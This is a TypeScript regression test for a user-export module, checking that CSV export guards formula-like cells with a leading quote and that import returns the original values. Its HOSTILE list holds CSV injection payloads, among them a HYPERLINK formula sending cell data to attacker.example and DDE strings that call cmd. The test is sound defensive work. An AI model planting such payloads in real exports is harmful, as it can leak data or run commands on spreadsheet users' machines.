import assert from 'node:assert/strict';
import { Readable } from 'node:stream';
import { describe, it } from 'node:test';
import {
  formatHeader,
  formatRecord,
  readRecords,
  TRANSFER_FIELDS,
  type TransferField,
} from '../../src/modules/users/transfer/user-transfer.format.ts';

// Issue 17.4: `users export --format csv` wrote cells starting with = + - @ tab or CR as they were,
// so a spreadsheet opening the export ran them as formulas (OWASP CSV Injection).
const HOSTILE = [
  '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  "'=already quoted",
  "''=twice",
];
const HARMLESS = ['Ada Lovelace', "'apostrophe first", "O'Brien", '', 'a=b', '1-2'];

const record = (name: string, email = 'x@example.com'): Record<TransferField, unknown> => ({
  email,
  name,
  role: 'user',
  status: 'active',
  email_verified: true,
  password_hash: null,
  created_at: '2026-11-25T01:00:00.000Z',
});

async function readBack(text: string) {
  const out = [];
  for await (const r of readRecords(Readable.from([text]), 'csv')) out.push(r);
  return out;
}

describe('CSV export and formulas', () => {
  it('csv-export-formula-injection: formula-like cells are exported with a leading quote', () => {
    for (const name of HOSTILE) {
      const line = formatRecord('csv', record(name));
      const cell = line.split(',')[1] ?? '';
      const unquoted = cell.startsWith('"') ? cell.slice(1) : cell;
      assert.ok(unquoted.startsWith("'"), `${JSON.stringify(name)} exported as ${JSON.stringify(line)}`);
    }
    // An address may start with = or + too (RFC 5322 atext); it is guarded like any cell.
    assert.ok(formatRecord('csv', record('x', '=1+1@example.com')).startsWith("'=1+1@example.com,"));
    for (const name of HARMLESS) {
      const line = formatRecord('csv', record(name));
      assert.ok(!line.split(',')[1]?.startsWith("''"), JSON.stringify(line));
    }
  });

  it('csv-export-formula-injection: the import gives back exactly what was exported', async () => {
    const names = [...HOSTILE, ...HARMLESS];
    const text =
      formatHeader('csv') + names.map((n, i) => formatRecord('csv', record(n, `u${i}@example.com`))).join('');
    const records = await readBack(text);
    assert.equal(records.length, names.length);
    records.forEach((r, i) => {
      assert.ok('fields' in r, JSON.stringify(r));
      assert.equal(r.fields.name, names[i]);
      assert.deepEqual(Object.keys(r.fields), [...TRANSFER_FIELDS]);
    });
    const guardedEmail = await readBack(
      `${formatHeader('csv')}${formatRecord('csv', record('x', '=1+1@example.com'))}`,
    );
    assert.equal('fields' in guardedEmail[0]! && guardedEmail[0].fields.email, '=1+1@example.com');
  });
});
